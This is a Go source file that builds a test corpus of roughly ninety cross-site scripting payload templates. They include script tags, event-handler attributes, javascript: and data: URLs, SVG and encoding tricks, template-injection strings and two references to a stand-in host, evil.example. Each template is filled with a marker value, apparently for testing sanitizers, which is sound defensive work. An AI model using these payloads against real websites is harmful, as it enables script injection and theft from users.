package corpus

import "fmt"

// scripts are texts that run where they are put into a page without care: as text, in an attribute, in an address, in a script, in SVG and
// where a page is put together from pieces. After the collections of OWASP and PortSwigger, as we know them; %s is what would run.
var scripts = []string{
	`<script>%s</script>`, `"><script>%s</script>`, `'><script>%s</script>`, `</script><script>%s</script>`, `</title><script>%s</script>`, `</textarea><script>%s</script>`,
	`</style><script>%s</script>`, `--><script>%s</script>`, `]]><script>%s</script>`, `</option></select><script>%s</script>`, `<ScRiPt>%s</sCrIpT>`, `<script/x>%s</script>`,
	`<img src=x onerror=%s>`, `"><img src=x onerror=%s>`, `<img src="x" onerror="%s">`, "<img src=`x` onerror=%s>", `<img/src/onerror=%s>`, `<svg onload=%s>`, `<svg/onload=%s>`,
	`<svg><script>%s</script></svg>`, `<svg><animate onbegin=%s attributeName=x>`, `<svg><a xlink:href="javascript:%s"><text x=0 y=20>x</text></a>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=%s>#x"/>`,
	`<math><mtext><script>%s</script></mtext></math>`, `<math href="javascript:%s">x</math>`, `<body onload=%s>`, `<iframe src="javascript:%s">`, `<iframe srcdoc="<script>%s</script>">`,
	`<object data="javascript:%s">`, `<embed src="javascript:%s">`, `<form action="javascript:%s"><input type=submit>`, `<button formaction="javascript:%s">x</button>`,
	`<a href="javascript:%s">x</a>`, `<a href="java&#x0A;script:%s">x</a>`, "<a href=\"\x01javascript:%s\">x</a>", `<base href="javascript:%s//">`, `<meta http-equiv=refresh content="0;url=javascript:%s">`,
	`<link rel=stylesheet href="javascript:%s">`, `<style>@import 'javascript:%s';</style>`, `<style>*{x:expression(%s)}</style>`, `<div style="background:url(javascript:%s)">`,
	`<details open ontoggle=%s>`, `<input autofocus onfocus=%s>`, `<select autofocus onfocus=%s>`, `<video><source onerror=%s>`, `<audio src=x onerror=%s>`, `<marquee onstart=%s>`, `<dialog open onclose=%s>`,
	`" onmouseover=%s x="`, `' onmouseover=%s x='`, `" autofocus onfocus=%s "`, "` onmouseover=%s x=`", `x onmouseover=%s`, `javascript:%s`, `JaVaScRiPt:%s`, "java\tscript:%s", `data:text/html,<script>%s</script>`,
	`data:text/html;base64,PHNjcmlwdD4=%s`, `vbscript:%s`, `//evil.example/%s`, `http://evil.example/?%s`, `{{%s}}`, `${%s}`, `#{%s}`, `<%%= %s %%>`, `{{constructor.constructor('%s')()}}`, `'-%s-'`, `"-%s-"`, `';%s;//`,
	`";%s;//`, `\";%s;//`, `</xss><xss onpointerenter=%s>`, `<xss id=x tabindex=1 onfocus=%s></xss>`, `<template><script>%s</script></template>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`,
	`<textarea><img title="</textarea><img src=x onerror=%s>">`, `<!--<img src="--><img src=x onerror=%s>">`, `<![CDATA[<script>%s</script>]]>`, `<?xml-stylesheet href="javascript:%s"?>`,
	"\u003cscript\u003e%s\u003c/script\u003e", `＜script＞%s＜/script＞`, `&lt;script&gt;%s&lt;/script&gt;`, `&#60;script&#62;%s&#60;/script&#62;`, `%%3Cscript%%3E%s%%3C/script%%3E`, `\x3cscript\x3e%s\x3c/script\x3e`,
	`+ADw-script+AD4-%s+ADw-/script+AD4-`, `[x](javascript:%s)`, `![x](x "onerror=%s")`, `<div hx-get="javascript:%s" hx-trigger="load">`, `<div hx-on:load="%s">`, `<div data-hx-vals='js:{x:%s}'>`, `<p hx-vals="js:%s">`,
}

// Scripts returns texts that try to run [Mark].
func Scripts() []string {
	all := make([]string, len(scripts))
	for i, s := range scripts {
		all[i] = fmt.Sprintf(s, Mark)
	}
	return all
}
